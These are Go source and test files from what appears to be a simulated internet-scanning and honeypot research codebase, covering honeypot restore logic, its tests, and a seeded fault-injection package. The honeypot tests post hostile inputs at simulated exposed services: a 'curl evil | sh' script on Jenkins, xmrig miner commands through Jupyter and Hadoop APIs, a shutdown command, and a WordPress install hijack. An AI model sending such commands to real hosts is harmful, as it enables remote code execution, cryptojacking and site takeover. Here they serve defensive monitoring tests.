func (f *Farm) react(pot *Honeypot, command string) {
	switch {
	case beats.Disruptive(command):
		// The vigilante case: the host goes down; availability monitoring
		// notices and restores it.
		pot.host.SetOnline(false)
		f.Clock.After(f.DetectionDelay, func(time.Time) {
			f.restore(pot)
			pot.host.SetOnline(true)
		})
	case beats.Abusive(command):
		// The dropped miner starts burning CPU; the resource monitor will
		// trip its threshold on a later sample. A direct fallback timer
		// also fires in case no ticker is running (standalone deploys).
		pot.cpuLoad = 0.95
		f.Clock.After(f.DetectionDelay, func(time.Time) {
			if pot.cpuLoad > f.CPUThreshold {
				f.restore(pot)
			}
		})
	}
}

// restore reverts the honeypot to its post-setup snapshot and logs the
// action to the central store.
func (f *Farm) restore(pot *Honeypot) {
	pot.Instance.Restore(pot.snapshot)
	pot.cpuLoad = 0
	pot.restores++
	f.telRestores.Inc()
	f.Store.Append(eslite.Event{
		Time: f.Clock.Now(),
		Type: "restore",
		Fields: map[string]string{
			"host": pot.IP.String(),
			"app":  string(pot.App),
		},
	})
}

// Tick is the periodic monitoring pass: the resource monitor samples CPU
// utilization and restores honeypots above the abuse threshold, and the
// integrity check re-arms honeypots whose one-shot vulnerabilities were
// consumed (a hijacked CMS installation is restored so the next attacker
// sees the initial state).
func (f *Farm) Tick() {
	f.telTicks.Inc()
	for _, pot := range f.pots {
		switch {
		case pot.cpuLoad > f.CPUThreshold:
			f.restore(pot)
		case pot.Instance.Info().Kind == mav.KindInstall && pot.Instance.Installed():
			f.restore(pot)
		}
	}
}

// StartTicker schedules Tick every interval until end.
func (f *Farm) StartTicker(interval time.Duration, end time.Time) {
	f.Clock.Every(f.Clock.Now().Add(interval), interval, end, func(time.Time) {
		f.Tick()
	})
}
