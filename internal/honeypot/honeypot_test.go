package honeypot

import (
	"io"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"mavscan/internal/eslite"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
)

var start = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)

func newFarm(t *testing.T) (*Farm, *simnet.Network, *simtime.Sim, *eslite.Store) {
	t.Helper()
	net := simnet.New()
	sim := simtime.NewSim(start)
	store := &eslite.Store{}
	return NewFarm(net, sim, store), net, sim, store
}

func TestDeployAllCoversInScopeApps(t *testing.T) {
	farm, net, _, _ := newFarm(t)
	if err := farm.DeployAll(netip.MustParseAddr("10.30.0.10")); err != nil {
		t.Fatal(err)
	}
	if got := len(farm.Honeypots()); got != 18 {
		t.Fatalf("deployed %d honeypots, want 18", got)
	}
	for _, pot := range farm.Honeypots() {
		if !pot.Instance.Vulnerable() {
			t.Errorf("%s honeypot is not vulnerable", pot.App)
		}
		if err := net.ProbePort(pot.IP, pot.Port); err != nil {
			t.Errorf("%s honeypot unreachable: %v", pot.App, err)
		}
		if _, ok := farm.ByIP(pot.IP); !ok {
			t.Errorf("%s not indexed by IP", pot.App)
		}
	}
}

func TestDeployRejectsOutOfScope(t *testing.T) {
	farm, _, _, _ := newFarm(t)
	if _, err := farm.Deploy(mav.Ghost, netip.MustParseAddr("10.30.0.1")); err == nil {
		t.Fatal("Ghost has no MAV; deploy must fail")
	}
}

func postForm(t *testing.T, net *simnet.Network, src netip.Addr, u string, form url.Values) int {
	t.Helper()
	client := httpsim.NewClient(net, httpsim.ClientOptions{SourceIP: src, DisableKeepAlives: true})
	resp, err := client.PostForm(u, form)
	if err != nil {
		t.Fatalf("POST %s: %v", u, err)
	}
	defer resp.Body.Close()
	io.Copy(io.Discard, resp.Body)
	return resp.StatusCode
}

func TestCompromiseIsMonitored(t *testing.T) {
	farm, net, _, store := newFarm(t)
	pot, err := farm.Deploy(mav.Jenkins, netip.MustParseAddr("10.30.0.1"))
	if err != nil {
		t.Fatal(err)
	}
	src := netip.MustParseAddr("203.0.113.9")
	code := postForm(t, net, src, "http://10.30.0.1:8080/scriptText", url.Values{"script": {"curl evil | sh"}})
	if code != 200 {
		t.Fatalf("exploit status %d", code)
	}
	// Packetbeat saw the HTTP POST including its body.
	httpEvents := store.Search(eslite.Query{Type: "http", Match: map[string]string{"host": pot.IP.String()}})
	if len(httpEvents) == 0 {
		t.Fatal("no http events captured")
	}
	if !strings.Contains(httpEvents[0].Field("body"), "curl+evil") && !strings.Contains(httpEvents[0].Field("body"), "curl evil") {
		t.Errorf("POST body not captured: %q", httpEvents[0].Field("body"))
	}
	// Auditbeat saw the command execution attributed to the source.
	execEvents := store.Search(eslite.Query{Type: "exec", Match: map[string]string{"src": src.String()}})
	if len(execEvents) != 1 || execEvents[0].Field("command") != "curl evil | sh" {
		t.Fatalf("exec events: %v", execEvents)
	}
}

func TestMinerTriggersDelayedRestore(t *testing.T) {
	farm, net, sim, store := newFarm(t)
	if _, err := farm.Deploy(mav.JupyterNotebook, netip.MustParseAddr("10.30.0.2")); err != nil {
		t.Fatal(err)
	}
	src := netip.MustParseAddr("203.0.113.9")
	client := httpsim.NewClient(net, httpsim.ClientOptions{SourceIP: src, DisableKeepAlives: true})
	// Create terminal, then run a miner.
	resp, err := client.Post("http://10.30.0.2:8888/api/terminals", "application/json", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	resp, err = client.Post("http://10.30.0.2:8888/api/terminals/1/input", "application/json",
		strings.NewReader(`{"command": "./xmrig -o stratum+tcp://pool:4444"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	pot := farm.Honeypots()[0]
	if pot.Restores() != 0 {
		t.Fatal("restore before detection delay")
	}
	sim.Advance(time.Hour) // past the 30-minute detection delay
	if pot.Restores() != 1 {
		t.Fatalf("restores = %d, want 1", pot.Restores())
	}
	if store.Count(eslite.Query{Type: "restore"}) != 1 {
		t.Fatal("restore not logged centrally")
	}
}

func TestVigilanteShutdownAndRecovery(t *testing.T) {
	farm, net, sim, _ := newFarm(t)
	pot, err := farm.Deploy(mav.JupyterLab, netip.MustParseAddr("10.30.0.3"))
	if err != nil {
		t.Fatal(err)
	}
	src := netip.MustParseAddr("203.0.113.10")
	client := httpsim.NewClient(net, httpsim.ClientOptions{SourceIP: src, DisableKeepAlives: true})
	resp, err := client.Post("http://10.30.0.3:8888/api/terminals/1/input", "application/json",
		strings.NewReader(`{"command": "shutdown -h now"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	// Host goes down immediately...
	if err := net.ProbePort(pot.IP, pot.Port); err == nil {
		t.Fatal("host still up after shutdown")
	}
	// ...and availability monitoring brings it back.
	sim.Advance(time.Hour)
	if err := net.ProbePort(pot.IP, pot.Port); err != nil {
		t.Fatalf("host not recovered: %v", err)
	}
}

func TestTickerReArmsHijackedInstall(t *testing.T) {
	farm, net, sim, _ := newFarm(t)
	pot, err := farm.Deploy(mav.WordPress, netip.MustParseAddr("10.30.0.4"))
	if err != nil {
		t.Fatal(err)
	}
	farm.StartTicker(15*time.Minute, start.Add(24*time.Hour))

	src := netip.MustParseAddr("203.0.113.11")
	code := postForm(t, net, src, "http://10.30.0.4:80/wp-admin/install.php?step=2",
		url.Values{"user_name": {"admin"}, "admin_password": {"pwned"}})
	if code != 200 {
		t.Fatalf("install hijack status %d", code)
	}
	if pot.Instance.Vulnerable() {
		t.Fatal("install consumed, should be invulnerable until restore")
	}
	sim.Advance(time.Hour)
	if !pot.Instance.Vulnerable() {
		t.Fatal("ticker did not re-arm the trust-on-first-use MAV")
	}
	if pot.Restores() == 0 {
		t.Fatal("no restore recorded")
	}
}

func TestSetupIsFirewalled(t *testing.T) {
	// During Deploy the host must not be reachable; we can only verify
	// the end state (unfirewalled) plus that the snapshot captured the
	// armed state — the firewall window is internal to Deploy.
	farm, net, _, _ := newFarm(t)
	pot, err := farm.Deploy(mav.Grav, netip.MustParseAddr("10.30.0.5"))
	if err != nil {
		t.Fatal(err)
	}
	if err := net.ProbePort(pot.IP, pot.Port); err != nil {
		t.Fatalf("honeypot not live after deploy: %v", err)
	}
	host, _ := net.Host(pot.IP)
	if host.Firewalled() {
		t.Fatal("firewall left enabled")
	}
}

func TestResourceMonitorTripsOnCPUThreshold(t *testing.T) {
	farm, net, sim, _ := newFarm(t)
	pot, err := farm.Deploy(mav.Hadoop, netip.MustParseAddr("10.30.0.6"))
	if err != nil {
		t.Fatal(err)
	}
	farm.StartTicker(15*time.Minute, start.Add(2*time.Hour))
	client := httpsim.NewClient(net, httpsim.ClientOptions{
		SourceIP: netip.MustParseAddr("203.0.113.12"), DisableKeepAlives: true,
	})
	resp, err := client.Post("http://10.30.0.6:8088/ws/v1/cluster/apps", "application/json",
		strings.NewReader(`{"am-container-spec":{"commands":{"command":"./xmrig -o stratum+tcp://p:4444"}}}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if pot.CPULoad() < 0.9 {
		t.Fatalf("miner did not pin the CPU: %v", pot.CPULoad())
	}
	sim.Advance(16 * time.Minute) // one resource-monitor sample
	if pot.Restores() != 1 {
		t.Fatalf("restores = %d, want 1 (threshold trip)", pot.Restores())
	}
	if pot.CPULoad() != 0 {
		t.Fatalf("restore did not reset the workload: %v", pot.CPULoad())
	}
	// The delayed fallback must not double-restore.
	sim.Advance(time.Hour)
	if pot.Restores() != 1 {
		t.Fatalf("restores = %d after fallback, want still 1", pot.Restores())
	}
}

func TestBenignCommandsDoNotTripMonitor(t *testing.T) {
	farm, net, sim, _ := newFarm(t)
	pot, err := farm.Deploy(mav.Zeppelin, netip.MustParseAddr("10.30.0.7"))
	if err != nil {
		t.Fatal(err)
	}
	farm.StartTicker(15*time.Minute, start.Add(2*time.Hour))
	client := httpsim.NewClient(net, httpsim.ClientOptions{
		SourceIP: netip.MustParseAddr("203.0.113.13"), DisableKeepAlives: true,
	})
	resp, err := client.Post("http://10.30.0.7:8080/api/notebook", "application/json",
		strings.NewReader(`{"name":"n","paragraphs":[{"text":"%sh uname -a"}]}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	sim.Advance(2 * time.Hour)
	if pot.Restores() != 0 {
		t.Fatalf("benign command triggered %d restores", pot.Restores())
	}
}
