// Package faults provides deterministic, seeded transient-fault injection
// for the simulated internet.
//
// Real Internet scanning is dominated by transient failures — dropped SYNs,
// resets from overloaded middleboxes, slow or truncated responses, 5xx
// blips from servers mid-restart. The paper's longevity study classifies a
// host offline after a failed probe, so a single blip pollutes the Figure-2
// series; LZR and "Never Trust Your Victim" both document how common such
// blips are in the wild. This package lets the simulation reproduce that
// hostile weather on demand: a Plan draws, per (address, port) attempt,
// from a seeded hash chain, so the same seed yields the exact same fault
// sequence on every run — fault-injected experiments stay byte-identical
// and every resilience fix is testable against a repeatable storm.
//
// The draw is keyed on (seed, address, port, attempt-number), not on time:
// a retry of the same endpoint is a fresh draw, which is what makes
// retry/backoff (internal/resilience) able to ride out sub-budget fault
// rates. Burst windows overlay a higher rate on a periodic schedule read
// from the injected simulated clock, modelling correlated outages.
package faults

import (
	"fmt"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"time"

	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// Kind enumerates the injectable transient-failure modes.
type Kind uint8

// The five failure modes, mirroring the taxonomy of scanning mishaps the
// robustness literature reports.
const (
	// SynTimeout drops the connection attempt silently (probe or dial
	// reports the host unreachable).
	SynTimeout Kind = iota
	// Reset refuses the connection as if a RST came back.
	Reset
	// Latency delays connection setup without failing it.
	Latency
	// HTTP5xx completes the connection but answers the request with a
	// transient 503 instead of the bound application handler.
	HTTP5xx
	// Truncate cuts the server's response stream after a byte budget.
	Truncate
	numKinds
)

// String returns the flag-syntax name of the kind (also the metric label).
func (k Kind) String() string {
	switch k {
	case SynTimeout:
		return "syn"
	case Reset:
		return "reset"
	case Latency:
		return "latency"
	case HTTP5xx:
		return "5xx"
	case Truncate:
		return "trunc"
	default:
		return fmt.Sprintf("kind(%d)", int(k))
	}
}

func kindFromString(s string) (Kind, error) {
	for k := Kind(0); k < numKinds; k++ {
		if k.String() == s {
			return k, nil
		}
	}
	return 0, fmt.Errorf("faults: unknown kind %q (want syn, reset, latency, 5xx or trunc)", s)
}

// AllKinds returns every fault kind, in declaration order.
func AllKinds() []Kind {
	out := make([]Kind, numKinds)
	for i := range out {
		out[i] = Kind(i)
	}
	return out
}

// Config parameterizes a fault Plan. The zero value disables injection.
type Config struct {
	// Seed drives every draw; the same seed reproduces the same faults.
	Seed int64
	// Rate is the per-attempt fault probability in [0, 1].
	Rate float64
	// BurstEvery/BurstLen/BurstRate overlay periodic correlated-outage
	// windows: for BurstLen out of every BurstEvery of simulated time the
	// rate becomes BurstRate instead. Bursts need a simulated clock (see
	// NewPlan); without one they stay inert so wall-clock runs remain
	// reproducible.
	BurstEvery time.Duration
	BurstLen   time.Duration
	BurstRate  float64
	// Kinds restricts which failure modes are drawn (default: all).
	Kinds []Kind
	// Latency is the setup delay injected by Latency faults (default 20ms).
	Latency time.Duration
	// TruncateAfter is the response byte budget of Truncate faults
	// (default 64).
	TruncateAfter int
	// WorkerCrashRate is the probability that an orchestrated shard worker
	// crashes while executing one checkpoint segment (consulted by
	// internal/orchestrator via Plan.WorkerCrash, not by simnet). Crash
	// draws ride an independent hash chain keyed on (seed, shard, segment,
	// attempt), so enabling them never perturbs the per-endpoint fault
	// sequence — scan results stay byte-identical whether or not workers
	// crash, which is what makes the kill/resume acceptance deterministic.
	WorkerCrashRate float64
}

// Enabled reports whether the config injects anything at all.
func (c Config) Enabled() bool {
	return c.Rate > 0 || (c.BurstEvery > 0 && c.BurstRate > 0) || c.WorkerCrashRate > 0
}

// Validate checks rates and windows for sanity.
func (c Config) Validate() error {
	if c.Rate < 0 || c.Rate > 1 {
		return fmt.Errorf("faults: rate %v outside [0, 1]", c.Rate)
	}
	if c.WorkerCrashRate < 0 || c.WorkerCrashRate > 1 {
		return fmt.Errorf("faults: crash rate %v outside [0, 1]", c.WorkerCrashRate)
	}
	if c.BurstRate < 0 || c.BurstRate > 1 {
		return fmt.Errorf("faults: burst-rate %v outside [0, 1]", c.BurstRate)
	}
	if c.BurstEvery > 0 && (c.BurstLen <= 0 || c.BurstLen > c.BurstEvery) {
		return fmt.Errorf("faults: burst-len %v outside (0, burst-every=%v]", c.BurstLen, c.BurstEvery)
	}
	return nil
}

// ParseFlag parses the -faults flag syntax:
//
//	seed=7,rate=0.02[,burst-every=6h,burst-len=20m,burst-rate=0.5]
//	      [,latency=50ms][,trunc=64][,kinds=syn+reset+5xx][,crash=0.3]
//
// The empty string yields a disabled Config.
func ParseFlag(s string) (Config, error) {
	var c Config
	if strings.TrimSpace(s) == "" {
		return c, nil
	}
	for _, field := range strings.Split(s, ",") {
		key, val, ok := strings.Cut(strings.TrimSpace(field), "=")
		if !ok {
			return c, fmt.Errorf("faults: field %q is not key=value", field)
		}
		var err error
		switch key {
		case "seed":
			c.Seed, err = strconv.ParseInt(val, 10, 64)
		case "rate":
			c.Rate, err = strconv.ParseFloat(val, 64)
		case "burst-every":
			c.BurstEvery, err = time.ParseDuration(val)
		case "burst-len":
			c.BurstLen, err = time.ParseDuration(val)
		case "burst-rate":
			c.BurstRate, err = strconv.ParseFloat(val, 64)
		case "latency":
			c.Latency, err = time.ParseDuration(val)
		case "trunc":
			c.TruncateAfter, err = strconv.Atoi(val)
		case "crash":
			c.WorkerCrashRate, err = strconv.ParseFloat(val, 64)
		case "kinds":
			for _, name := range strings.Split(val, "+") {
				var k Kind
				if k, err = kindFromString(name); err != nil {
					break
				}
				c.Kinds = append(c.Kinds, k)
			}
		default:
			return c, fmt.Errorf("faults: unknown field %q", key)
		}
		if err != nil {
			return c, fmt.Errorf("faults: bad %s: %v", key, err)
		}
	}
	return c, c.Validate()
}

// attemptShards spreads the per-endpoint attempt counters so concurrent
// scan workers touching different endpoints rarely contend.
const attemptShards = 64

type attemptShard struct {
	mu sync.Mutex
	n  map[uint64]uint64
}

// Plan is a deterministic fault schedule implementing simnet.FaultInjector.
// Construct with NewPlan and install with Network.SetFaults.
type Plan struct {
	cfg   Config
	kinds []Kind
	// clock gates burst windows; nil disables them (wall time would break
	// run-to-run determinism).
	clock  simtime.Clock
	start  time.Time
	shards [attemptShards]attemptShard
	tel    *planTelemetry
}

type planTelemetry struct {
	attempts *telemetry.Counter
	injected map[Kind]*telemetry.Counter
}

// NewPlan builds a fault plan from cfg. clock, when non-nil, must be the
// experiment's simulated clock: burst windows are positioned relative to
// its time at construction. Pass nil for burst-free injection (e.g. the
// one-shot scan study, which has no meaningful timeline).
func NewPlan(cfg Config, clock simtime.Clock) *Plan {
	if cfg.Latency <= 0 {
		cfg.Latency = 20 * time.Millisecond
	}
	if cfg.TruncateAfter <= 0 {
		cfg.TruncateAfter = 64
	}
	kinds := cfg.Kinds
	if len(kinds) == 0 {
		kinds = AllKinds()
	}
	p := &Plan{cfg: cfg, kinds: kinds, clock: clock}
	if clock != nil {
		p.start = clock.Now()
	}
	for i := range p.shards {
		p.shards[i].n = make(map[uint64]uint64)
	}
	return p
}

// Instrument registers fault-injection metrics with reg (nil = off).
func (p *Plan) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	tel := &planTelemetry{
		attempts: reg.Counter("mavscan_faults_attempts_total"),
		injected: make(map[Kind]*telemetry.Counter, numKinds),
	}
	for k := Kind(0); k < numKinds; k++ {
		tel.injected[k] = reg.Counter(
			telemetry.Labeled("mavscan_faults_injected_total", "kind", k.String()))
	}
	p.tel = tel
}

// splitmix64 is the finalizer of the SplitMix64 PRNG: a cheap, high-quality
// 64-bit mixer (same construction the portscan shuffle uses).
func splitmix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// pairKey packs an IPv4 (or 4-in-6) address and port into a unique uint64.
func pairKey(ip netip.Addr, port int) uint64 {
	var b [4]byte
	if ip.Is4() || ip.Is4In6() {
		b = ip.As4()
	}
	return uint64(b[0])<<40 | uint64(b[1])<<32 | uint64(b[2])<<24 |
		uint64(b[3])<<16 | uint64(uint16(port))
}

// nextAttempt returns the 1-based attempt number for the endpoint. Each
// endpoint is probed by one worker at a time (stage ordering and the
// per-target worker model guarantee it), so the sequence an endpoint
// observes is deterministic even though the map is shared.
func (p *Plan) nextAttempt(key uint64) uint64 {
	sh := &p.shards[key%attemptShards]
	sh.mu.Lock()
	sh.n[key]++
	n := sh.n[key]
	sh.mu.Unlock()
	return n
}

// rate returns the active fault probability, accounting for burst windows.
func (p *Plan) rate() float64 {
	r := p.cfg.Rate
	if p.cfg.BurstEvery > 0 && p.clock != nil {
		if el := p.clock.Now().Sub(p.start); el >= 0 && el%p.cfg.BurstEvery < p.cfg.BurstLen {
			r = p.cfg.BurstRate
		}
	}
	return r
}

// decide draws the fault (if any) for the next attempt on (ip, port).
func (p *Plan) decide(ip netip.Addr, port int) (Kind, bool) {
	key := pairKey(ip, port)
	attempt := p.nextAttempt(key)
	if p.tel != nil {
		p.tel.attempts.Inc()
	}
	rate := p.rate()
	if rate <= 0 {
		return 0, false
	}
	h := splitmix64(uint64(p.cfg.Seed) ^ splitmix64(key) ^ splitmix64(attempt*0x9e3779b97f4a7c15))
	if float64(h>>11)/(1<<53) >= rate {
		return 0, false
	}
	kind := p.kinds[int(splitmix64(h)%uint64(len(p.kinds)))]
	if p.tel != nil {
		p.tel.injected[kind].Inc()
	}
	return kind, true
}

// WorkerCrash draws whether the attempt-th execution (1-based) of the
// given checkpoint segment crashes its shard worker. The chain is
// independent of the per-endpoint draws and stateless (no shared attempt
// counter): the same (seed, shard, segment, attempt) always crashes or
// always survives, so a resumed orchestrator replays the exact crash
// schedule an uninterrupted run would have seen.
func (p *Plan) WorkerCrash(shard, segment, attempt int) bool {
	r := p.cfg.WorkerCrashRate
	if r <= 0 {
		return false
	}
	h := splitmix64(uint64(p.cfg.Seed) ^ 0xc4ceb9fe1a85ec53)
	h = splitmix64(h ^ uint64(uint32(shard)))
	h = splitmix64(h ^ uint64(uint32(segment)))
	h = splitmix64(h ^ uint64(uint32(attempt)))
	return float64(h>>11)/(1<<53) < r
}

// WorkerKill draws whether fabric worker (0-based ordinal) dies while
// holding its lease-th granted lease (1-based). Like WorkerCrash it is a
// stateless, independent hash chain — a distinct salt keeps it from ever
// correlating with segment crashes or endpoint faults — but the subject
// here is the whole worker process: a kill drops every lease the worker
// holds at once, exercising the coordinator's expiry-and-reassign path
// rather than the in-process retry path.
func (p *Plan) WorkerKill(worker, lease int) bool {
	r := p.cfg.WorkerCrashRate
	if r <= 0 {
		return false
	}
	h := splitmix64(uint64(p.cfg.Seed) ^ 0x94d049bb133111eb)
	h = splitmix64(h ^ uint64(uint32(worker)))
	h = splitmix64(h ^ uint64(uint32(lease)))
	return float64(h>>11)/(1<<53) < r
}

// ProbeFault implements simnet.FaultInjector for SYN probes. Only faults
// that break the handshake apply: a dropped SYN or an over-deadline SYN-ACK
// looks like an unreachable host to a masscan-style prober, a reset like a
// closed port. Response-level faults (5xx, truncation) leave the handshake
// intact.
func (p *Plan) ProbeFault(ip netip.Addr, port int) error {
	kind, ok := p.decide(ip, port)
	if !ok {
		return nil
	}
	switch kind {
	case SynTimeout, Latency:
		return simnet.ErrHostUnreachable
	case Reset:
		return simnet.ErrConnRefused
	default:
		return nil
	}
}

// DialFault implements simnet.FaultInjector for full connections.
func (p *Plan) DialFault(ip netip.Addr, port int) simnet.Fault {
	kind, ok := p.decide(ip, port)
	if !ok {
		return simnet.Fault{}
	}
	switch kind {
	case SynTimeout:
		return simnet.Fault{Err: simnet.ErrHostUnreachable}
	case Reset:
		return simnet.Fault{Err: simnet.ErrConnRefused}
	case Latency:
		return simnet.Fault{Latency: p.cfg.Latency}
	case HTTP5xx:
		return simnet.Fault{Status: 503}
	case Truncate:
		return simnet.Fault{Truncate: p.cfg.TruncateAfter}
	default:
		return simnet.Fault{}
	}
}
