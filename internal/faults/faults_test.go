package faults

import (
	"errors"
	"net/netip"
	"testing"
	"time"

	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

var (
	ipA   = netip.MustParseAddr("10.0.0.1")
	start = time.Date(2021, 4, 2, 0, 0, 0, 0, time.UTC)
)

// drive records the fault decision sequence a plan makes over a grid of
// endpoints and repeated attempts.
func drive(p *Plan, attempts int) []simnet.Fault {
	var out []simnet.Fault
	for i := 0; i < 8; i++ {
		ip := netip.AddrFrom4([4]byte{10, 0, 1, byte(i)})
		for _, port := range []int{80, 443, 2375} {
			for a := 0; a < attempts; a++ {
				out = append(out, p.DialFault(ip, port))
			}
		}
	}
	return out
}

func TestSameSeedSameFaultSequence(t *testing.T) {
	cfg := Config{Seed: 42, Rate: 0.3}
	a := drive(NewPlan(cfg, nil), 4)
	b := drive(NewPlan(cfg, nil), 4)
	injected := 0
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("decision %d differs between identically seeded plans: %+v vs %+v", i, a[i], b[i])
		}
		if a[i] != (simnet.Fault{}) {
			injected++
		}
	}
	if injected == 0 {
		t.Fatal("rate 0.3 over 96 draws injected nothing; the draw is broken")
	}

	c := drive(NewPlan(Config{Seed: 43, Rate: 0.3}, nil), 4)
	same := 0
	for i := range a {
		if a[i] == c[i] {
			same++
		}
	}
	if same == len(a) {
		t.Fatal("different seeds produced identical fault sequences")
	}
}

func TestRetriesSeeFreshDraws(t *testing.T) {
	// The decision is keyed on the attempt ordinal: with rate 0.5 an
	// endpoint must not fail (or succeed) on every one of many attempts.
	p := NewPlan(Config{Seed: 7, Rate: 0.5}, nil)
	faulted, clean := 0, 0
	for a := 0; a < 64; a++ {
		if p.DialFault(ipA, 80) == (simnet.Fault{}) {
			clean++
		} else {
			faulted++
		}
	}
	if faulted == 0 || clean == 0 {
		t.Fatalf("64 attempts on one endpoint: %d faulted, %d clean; retries see no fresh draws", faulted, clean)
	}
}

func TestRateBounds(t *testing.T) {
	if drive(NewPlan(Config{Seed: 1, Rate: 0}, nil), 2)[0] != (simnet.Fault{}) {
		t.Fatal("rate 0 injected a fault")
	}
	for i, f := range drive(NewPlan(Config{Seed: 1, Rate: 1}, nil), 2) {
		if f == (simnet.Fault{}) {
			t.Fatalf("rate 1 skipped draw %d", i)
		}
	}
}

func TestProbeFaultSemantics(t *testing.T) {
	// Only handshake-level kinds break a SYN probe.
	probe := NewPlan(Config{Seed: 3, Rate: 1, Kinds: []Kind{SynTimeout}}, nil)
	if err := probe.ProbeFault(ipA, 80); !errors.Is(err, simnet.ErrHostUnreachable) {
		t.Fatalf("syn timeout on probe: got %v, want ErrHostUnreachable", err)
	}
	probe = NewPlan(Config{Seed: 3, Rate: 1, Kinds: []Kind{Reset}}, nil)
	if err := probe.ProbeFault(ipA, 80); !errors.Is(err, simnet.ErrConnRefused) {
		t.Fatalf("reset on probe: got %v, want ErrConnRefused", err)
	}
	probe = NewPlan(Config{Seed: 3, Rate: 1, Kinds: []Kind{HTTP5xx, Truncate}}, nil)
	if err := probe.ProbeFault(ipA, 80); err != nil {
		t.Fatalf("response-level kinds must not break the handshake: %v", err)
	}
}

func TestAllKindsDrawn(t *testing.T) {
	p := NewPlan(Config{Seed: 5, Rate: 1}, nil)
	seen := map[string]bool{}
	for _, f := range drive(p, 8) {
		switch {
		case errors.Is(f.Err, simnet.ErrHostUnreachable):
			seen["syn"] = true
		case errors.Is(f.Err, simnet.ErrConnRefused):
			seen["reset"] = true
		case f.Latency > 0:
			seen["latency"] = true
		case f.Status != 0:
			seen["5xx"] = true
		case f.Truncate > 0:
			seen["trunc"] = true
		}
	}
	if len(seen) != int(numKinds) {
		t.Fatalf("rate 1 over 192 draws produced kinds %v, want all %d", seen, numKinds)
	}
}

func TestBurstWindows(t *testing.T) {
	sim := simtime.NewSim(start)
	cfg := Config{
		Seed: 9, Rate: 0,
		BurstEvery: 6 * time.Hour, BurstLen: time.Hour, BurstRate: 1,
	}
	p := NewPlan(cfg, sim)
	if f := p.DialFault(ipA, 80); f == (simnet.Fault{}) {
		t.Fatal("inside the burst window (t=0) the burst rate must apply")
	}
	sim.AdvanceTo(start.Add(3 * time.Hour))
	if f := p.DialFault(ipA, 80); f != (simnet.Fault{}) {
		t.Fatalf("outside the burst window the base rate (0) must apply, got %+v", f)
	}
	sim.AdvanceTo(start.Add(6*time.Hour + 30*time.Minute))
	if f := p.DialFault(ipA, 80); f == (simnet.Fault{}) {
		t.Fatal("the burst window must recur every BurstEvery")
	}

	// Without a clock, bursts are inert: the base rate (0) always applies.
	inert := NewPlan(cfg, nil)
	if f := inert.DialFault(ipA, 80); f != (simnet.Fault{}) {
		t.Fatalf("clock-less plan must disable bursts, got %+v", f)
	}
}

func TestParseFlag(t *testing.T) {
	cfg, err := ParseFlag("seed=7,rate=0.02,burst-every=6h,burst-len=20m,burst-rate=0.5,latency=50ms,trunc=32,kinds=syn+5xx")
	if err != nil {
		t.Fatal(err)
	}
	want := Config{
		Seed: 7, Rate: 0.02,
		BurstEvery: 6 * time.Hour, BurstLen: 20 * time.Minute, BurstRate: 0.5,
		Latency: 50 * time.Millisecond, TruncateAfter: 32,
		Kinds: []Kind{SynTimeout, HTTP5xx},
	}
	if cfg.Seed != want.Seed || cfg.Rate != want.Rate || cfg.BurstEvery != want.BurstEvery ||
		cfg.BurstLen != want.BurstLen || cfg.BurstRate != want.BurstRate ||
		cfg.Latency != want.Latency || cfg.TruncateAfter != want.TruncateAfter ||
		len(cfg.Kinds) != 2 || cfg.Kinds[0] != SynTimeout || cfg.Kinds[1] != HTTP5xx {
		t.Fatalf("ParseFlag = %+v, want %+v", cfg, want)
	}

	if cfg, err := ParseFlag(""); err != nil || cfg.Enabled() {
		t.Fatalf("empty flag: cfg=%+v err=%v, want disabled and nil", cfg, err)
	}
	for _, bad := range []string{
		"rate",            // not key=value
		"rate=2",          // out of range
		"rate=-0.1",       // out of range
		"bogus=1",         // unknown key
		"kinds=teapot",    // unknown kind
		"seed=notanumber", // parse failure
		"rate=0.1,burst-every=1h,burst-rate=0.5", // burst window without length
	} {
		if _, err := ParseFlag(bad); err == nil {
			t.Errorf("ParseFlag(%q) accepted invalid input", bad)
		}
	}
}

func TestPlanTelemetry(t *testing.T) {
	reg := telemetry.New(simtime.Wall{})
	p := NewPlan(Config{Seed: 2, Rate: 1, Kinds: []Kind{Reset}}, nil)
	p.Instrument(reg)
	for i := 0; i < 5; i++ {
		p.DialFault(ipA, 80)
	}
	if got := reg.CounterValue("mavscan_faults_attempts_total"); got != 5 {
		t.Errorf("attempts counter = %d, want 5", got)
	}
	if got := reg.CounterValue(`mavscan_faults_injected_total{kind="reset"}`); got != 5 {
		t.Errorf("injected{reset} counter = %d, want 5", got)
	}
}

// TestWorkerCrashDeterministicAndIndependent pins the crash schedule's two
// contract points: the same (seed, shard, segment, attempt) always draws
// the same verdict, and enabling crashes never perturbs the endpoint-level
// fault sequence (they hash on independent chains).
func TestWorkerCrashDeterministicAndIndependent(t *testing.T) {
	a := NewPlan(Config{Seed: 11, WorkerCrashRate: 0.5}, nil)
	b := NewPlan(Config{Seed: 11, WorkerCrashRate: 0.5}, nil)
	var crashes, runs int
	for shard := 0; shard < 4; shard++ {
		for seg := 0; seg < 8; seg++ {
			for attempt := 1; attempt <= 3; attempt++ {
				runs++
				va, vb := a.WorkerCrash(shard, seg, attempt), b.WorkerCrash(shard, seg, attempt)
				if va != vb {
					t.Fatalf("WorkerCrash(%d,%d,%d) not deterministic", shard, seg, attempt)
				}
				if va {
					crashes++
				}
			}
		}
	}
	if crashes == 0 || crashes == runs {
		t.Errorf("crash rate 0.5 drew %d/%d crashes", crashes, runs)
	}

